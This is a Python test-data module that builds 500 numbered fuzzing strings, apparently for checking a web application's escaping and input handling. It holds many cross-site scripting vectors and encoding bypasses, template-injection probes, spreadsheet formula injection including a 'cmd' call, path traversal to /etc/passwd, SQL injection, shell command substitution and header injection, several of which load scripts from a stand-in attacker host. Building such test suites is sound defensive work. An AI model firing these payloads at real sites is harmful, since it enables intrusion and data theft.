"""Five hundred texts that would run, break out, mislead or fall over, each with a number of its own."""

from __future__ import annotations

import random

HIT = "window.__hit=1"
OPENERS = (
    "", '"', "'", "'\">", '">', "</textarea>", "</title>", "</script>", "</style>", "-->", "]]>", "</svg>", "`", "</option></select>",
)  # fmt: skip
VECTORS = (
    f"<script>{HIT}</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", f"<script\x0c>{HIT}</script\n>",
    f"<img src=x onerror={HIT}>", f"<img src=x:x onerror\n=\n'{HIT}'>", f'<img """><script>{HIT}</script>">',
    f"<svg/onload={HIT}>", f"<svg><animate onbegin={HIT} attributeName=x dur=1s>", f"<svg><script>{HIT}</script></svg>",
    f"<svg><a xlink:href='javascript:{HIT}'><text y=9>x</text></a></svg>", f"<math><mtext><script>{HIT}</script>",
    f"<a href='javascript:{HIT}'>x</a>", f"<a href='jav&#x09;ascript:{HIT}'>x</a>", f"<a href='&#106;avascript:{HIT}'>x</a>",
    f'<iframe srcdoc="<script>parent.{HIT}</script>"></iframe>', f"<iframe src='javascript:parent.{HIT}'></iframe>",
    f"<body onload={HIT}>", f"<details open ontoggle={HIT}>", f"<video><source onerror={HIT}></video>",
    f"<audio src=x onerror={HIT}>", f"<input autofocus onfocus={HIT}>", f"<select autofocus onfocus={HIT}></select>",
    f"<form action='javascript:{HIT}'><button>x</button></form>", f"<button formaction='javascript:{HIT}'>x</button>",
    "<style>@import'//evil.example/x.css';</style>", f"<style>*{{background:url('javascript:{HIT}')}}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<base href=//evil.example/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{HIT}'>", f"<object data='javascript:{HIT}'></object>",
    f"<embed src='javascript:{HIT}'>", f"<template><script>{HIT}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={HIT}>">', f"<!--><img src=x onerror={HIT}>", f"<!--{HIT}--!><b>",
    f"<![CDATA[<script>{HIT}</script>]]>", "<x hx-get=//evil.example/ hx-trigger=load>", f"<x hx-on:load={HIT}>",
    f"<x hx-vals='js:{{x:{HIT}}}' hx-get=/ hx-trigger=load>", f" onmouseover={HIT} x=", f" autofocus onfocus={HIT} x=",
    f"javascript:{HIT}", f"data:text/html,<script>{HIT}</script>", f"}};{HIT};//", f"\\u003cscript\\u003e{HIT}\\u003c/script\\u003e",
    f"&lt;script&gt;{HIT}&lt;/script&gt;", f"&#60;script&#62;{HIT}&#60;/script&#62;", f"%3Cscript%3E{HIT}%3C/script%3E",
    f"+ADw-script+AD4-{HIT}+ADw-/script+AD4-", f"\uff1cscript\uff1e{HIT}\uff1c/script\uff1e",
    "{{ 7|add:7 }}", "{% load static %}{% debug %}", "{% include 'foundation/frame.html' %}", "<c-hf.panel title=x>", "{# gone #}",
    "${7*7}", "#{7*7}", "<%= 7*7 %>", f"{{{{constructor.constructor('{HIT}')()}}}}",
)  # fmt: skip
ODD = (
    "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1:A9)", '=HYPERLINK("http://evil.example";"x")', "\uff1d1+1", "'=1",
    "\u202etxet gnorw\u202c", "\u2066isolated", "zero\u200bwidth\u200djoined", "\u2028line\u2029paragraph", "\ufeffmark",
    "e" + "\u0301" * 60, "\U0001f469\u200d\U0001f4bb", "\ufdd0\uffff", "../../../etc/passwd", "..\\..\\x", "%00", "\\0",
    "'; DROP TABLE people_person; --", '" OR 1=1 --', "$(touch x)", "`touch x`", "x\r\nSet-Cookie: a=b", "%0d%0aX: y",
    "Robert\ttables", "\u00a0", "nan", "Infinity", "null", "true", "[]", "{}", "1e999", "-0", "\u0660\u0661\u0662",
    "\x01\x02\x08", "\x1b[31mred", "\x7f", "\x85", "a\x00b", "K\u0130\u0131\u1e9e", "\U000e0041\U000e0042",
)  # fmt: skip
LONG = ("x" * 130, "<b>" * 2_000, "\U0001f600" * 1_500, "{{" * 3_000, "(" * 5_000)


def payloads(count: int) -> list[str]:
    """So many of them, mixed the same way in every run; where there are few, of every kind one."""
    chance = random.Random(20260416)  # noqa: S311 - payloads are to be the same in every run
    built = [f"{opener}{vector}" for opener in OPENERS for vector in VECTORS]
    chance.shuffle(built)
    odd = [*ODD, *LONG]
    chance.shuffle(odd)
    few = max(1, count * len(odd) // 500)
    mixed = built[: count - min(few, len(odd))] + odd[:few]
    chance.shuffle(mixed)
    return [f"{text}P{number}" for number, text in enumerate(mixed)]
